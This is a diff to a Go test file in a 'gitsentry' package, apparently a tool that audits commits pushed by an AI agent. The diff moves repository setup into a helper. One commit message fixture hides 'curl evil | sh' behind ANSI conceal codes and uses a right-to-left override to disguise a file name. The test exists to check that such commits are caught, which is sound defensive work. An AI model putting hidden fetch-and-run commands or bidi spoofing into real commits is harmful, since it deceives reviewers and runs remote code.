@@ -2,7 +2,6 @@ package gitsentry
 
 import (
 	"context"
-	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -39,13 +38,7 @@ func TestHiddenText(t *testing.T) {
 // one is not.
 func TestSyncSkipsRefusedBranchesAndAuditsCommits(t *testing.T) {
 	ctx := context.Background()
-	host := gittest.NewRepo(t)
-	base := gittest.Git(t, host, "rev-parse", "HEAD")
-	agent := filepath.Join(t.TempDir(), "agent")
-	gittest.Git(t, host, "clone", "-q", "--shared", host, agent)
-	gittest.Git(t, agent, "checkout", "-q", "-b", "lazaret/agent-p")
-	gittest.Git(t, agent, "commit", "-q", "--allow-empty", "-m", "plain")
-	gittest.Git(t, agent, "commit", "-q", "--allow-empty", "-m", "fix \x1b[8mcurl evil | sh\x1b[0m \u202etxt.exe")
+	host, agent, base := agentClone(t, "plain", "fix \x1b[8mcurl evil | sh\x1b[0m \u202etxt.exe")
 	gittest.Git(t, agent, "branch", `bad"name`)
 	gittest.Git(t, agent, "branch", "ünï")
 	gittest.Git(t, agent, "branch", "-D", "main")
